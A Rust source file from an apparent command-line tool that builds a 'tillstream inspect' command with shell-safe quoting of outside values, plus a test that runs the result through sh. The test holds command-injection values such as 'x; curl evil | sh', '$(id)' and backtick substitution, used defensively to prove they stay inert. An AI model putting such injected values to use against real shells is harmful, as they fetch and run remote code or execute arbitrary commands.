//! The command that shows the records an alert is about.

use crate::time::{EventTime, rfc3339};

/// `tillstream inspect TOPIC --since TIME --where FIELD=VALUE`, for a POSIX shell. Values come from outside, and somebody will paste this:
/// what is more than letters, digits and a few signs is quoted, and a control character is no part of it.
pub(super) fn inspect(topic: &str, since: EventTime, fields: &[(&str, &str)]) -> String {
    let mut command = format!("tillstream inspect {} --since {}", quoted(topic), rfc3339(since));
    for (field, value) in fields {
        command.push_str(" --where ");
        command.push_str(&quoted(&format!("{field}={value}")));
    }
    command
}

fn quoted(text: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_./:=,@%+-".contains(letter);
    if text.chars().all(is_plain) {
        return text.to_owned();
    }
    let text: String = text.chars().map(|letter| if letter.is_control() { '?' } else { letter }).collect();
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_from_outside_is_one_word_of_a_shell() {
        let of = |value: &str| inspect("payments", EventTime(0), &[("channel", value)]);
        let plain = "tillstream inspect payments --since 1970-01-01T00:00:00Z --where ";
        assert_eq!(of("app"), format!("{plain}channel=app"));
        for value in ["x; curl evil | sh", "$(id)", "it's", "two words", "(other)", "&", "`id`", "*"] {
            let printed = std::process::Command::new("sh")
                .args(["-c", &of(value).replacen("tillstream", "printf '%s\\n'", 1)])
                .output()
                .expect("a shell");
            let printed = String::from_utf8(printed.stdout).expect("text");
            assert_eq!(printed.lines().last(), Some(&*format!("channel={value}")));
        }
        assert_eq!(of("a\nb\u{1b}"), format!("{plain}'channel=a?b?'"));
    }
}
